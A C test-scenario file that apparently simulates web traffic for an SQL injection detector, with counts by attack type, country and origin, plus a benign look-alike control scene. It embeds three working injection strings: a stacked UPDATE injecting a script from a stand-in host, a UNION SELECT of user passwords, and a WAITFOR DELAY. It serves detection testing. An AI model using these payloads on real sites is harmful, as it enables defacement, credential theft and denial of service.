/* sqli.c - SQL injection of the three tendencies that IIJ describes: a few sources that
 * steal from one server, many that overload one, and some that tamper with every server
 * they find; and web traffic that only talks of SQL.
 *
 * Facts: "finding" sqli; "sqli" by class by the text and by behaviour, "sqli-day" by class,
 * "sqli-tamper" by country, "sqli-from" by where the source is, each with the measure
 * "requests".
 */
#include "synth/talk.h"

enum { SERVERS = 40, A_SOURCE = 6, STOLEN = 60, OVERLOADERS = 30, OF_EACH = 4, ALONE = 7 };
#define SECOND INT64_C(1000000000)
#define MONTH "2009-02"

static int64_t
set_up(struct stage *stage)
{
	stage_small(stage);
	struct stage_sensor *s =
		stage_sensor(stage, "servers", "Web servers", "Asia/Tokyo", "192.0.2.0/24");
	stage_observed(s, "2009-02-01", "2009-02-08");
	return stage_time_ns(s, "2009-02-02T09:00:00");
}

static void
request(struct stage *stage, int64_t time_ns, unsigned network, uint32_t source,
	uint32_t server, const char *query)
{
	struct addr a = talk_addr("192.0.2.0");
	a.lo += 1 + server % 250;
	struct talk t = talk_begin(stage, time_ns,
		(struct talk_end){ stage_address(stage, network, source),
			(uint16_t)(1024 + random_below(&stage->random, 60000)) },
		(struct talk_end){ a, 80 });
	auto_free char *line = base_printf("GET /item.asp?%s HTTP/1.1\r\n"
					   "Host: shop%u.example\r\n\r\n",
		query, server);
	talk_client(&t, line);
	talk_server(&t, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
	talk_end(&t);
}

static const char tampering[] = "id=7;UPDATE+pages+SET+body=body%2B'%3Cscript+src="
				"//host.invalid/x.js%3E'--";
static const char stealing[] = "id=7+UNION+SELECT+name,password,3+FROM+users--";
static const char overloading[] = "id=7;WAITFOR+DELAY+'0:0:30'--";

/* From so many requests each of a country, in tenths of a percent. */
static const struct {
	unsigned network, requests;
	const char *country;
} tamperers[] = {
	{ SMALL_CN, 355, "CN" },
	{ SMALL_JP, 218, "JP" },
	{ SMALL_US, 175, "US" },
	{ SMALL_UNKNOWN, 252, "" },
};

/* One source after the other, each to many servers; the last of China to one alone. */
static void
tamper(struct stage *stage, int64_t start)
{
	for (size_t c = 0; c < count_of(tamperers); c++) {
		bool has_single = tamperers[c].network == SMALL_CN;
		unsigned all = tamperers[c].requests - (has_single ? ALONE : 0);
		for (unsigned i = 0; i < all; i++) {
			unsigned source = i / A_SOURCE;
			bool last = source >= all / A_SOURCE; /* the remainder */
			request(stage, start + (c * 86400 + i * 37) * SECOND,
				tamperers[c].network, last ? source - 1 : source,
				(i * 11 + source) % SERVERS, tampering);
		}
		for (unsigned i = 0; has_single && i < ALONE; i++)
			request(stage, start + (9000 + i * 5) * SECOND, SMALL_CN, 5000, 77,
				tampering);
		stage_fact(stage, MONTH, "sqli-tamper", tamperers[c].country, "requests",
			tamperers[c].requests);
	}
	stage_fact(stage, MONTH, "sqli", "tamper tamper", "requests", 1000 - ALONE);
	stage_fact(stage, MONTH, "sqli", "tamper steal", "requests", ALONE);
}

static int
make_tendencies(struct stage *stage, struct err *err)
{
	(void)err;
	int64_t start = set_up(stage);
	tamper(stage, start);
	for (unsigned i = 0; i < STOLEN;
		i++) /* within two minutes, from inside the country */
		request(stage, start + (3600 + i * 2) * SECOND, SMALL_JP_2, 9, 90,
			stealing);
	for (unsigned i = 0; i < OVERLOADERS * OF_EACH;
		i++) /* three hours, from everywhere */
		request(stage, start + (7200 + i * 90) * SECOND,
			i % 3 ? SMALL_JP_2 : SMALL_US, 4000 + i % OVERLOADERS, 91,
			overloading);
	stage_fact(stage, MONTH, "sqli", "steal steal", "requests", STOLEN);
	stage_fact(stage, MONTH, "sqli", "overload overload", "requests",
		OVERLOADERS * OF_EACH);
	const unsigned every_third = OVERLOADERS * OF_EACH / 3; /* of those that overload */
	stage_fact(stage, MONTH, "sqli-from", "domestic", "requests",
		218 + STOLEN + 2 * every_third);
	stage_fact(
		stage, MONTH, "sqli-from", "abroad", "requests", 355 + 175 + every_third);
	stage_fact(stage, MONTH, "sqli-from", "unknown", "requests", 252);
	stage_fact(stage, MONTH, "sqli-day", "tamper", "requests", 1000);
	stage_fact(stage, MONTH, "sqli-day", "steal", "requests", STOLEN);
	stage_fact(stage, MONTH, "sqli-day", "overload", "requests", OVERLOADERS * OF_EACH);
	talk_expect(stage, MONTH, "sqli", 1000 + STOLEN + OVERLOADERS * OF_EACH);
	return 0;
}

static int
make_twin(struct stage *stage, struct err *err)
{
	static const char *const queries[] = { "q=select+the+best+shop+from+the+list",
		"name=O'Brien", "q=union+jack+and+drop+shadow",
		"text=update+your+set+of+tools", "q=1%2B1%3D2+or+not",
		"note=wait+for+delay+of+30+minutes" };
	(void)err;
	int64_t start = set_up(stage);
	for (unsigned i = 0; i < 60; i++)
		request(stage, start + i * 20 * SECOND, SMALL_JP, i, i % SERVERS,
			queries[i % count_of(queries)]);
	talk_expect(stage, MONTH, "sqli", 0);
	return 0;
}

SCENE(sqli_tendencies) = {
	.name = "sqli-tendencies",
	.summary = "IIJ: SQL injection that steals, overloads and tampers, by country",
	.shows = "sqli, I22, I23, I24",
	.make = make_tendencies,
};

SCENE(sqli_twin) = {
	.name = "sqli-twin",
	.summary = "web traffic that talks of selecting and uniting: no SQL injection",
	.shows = "sqli",
	.make = make_twin,
};
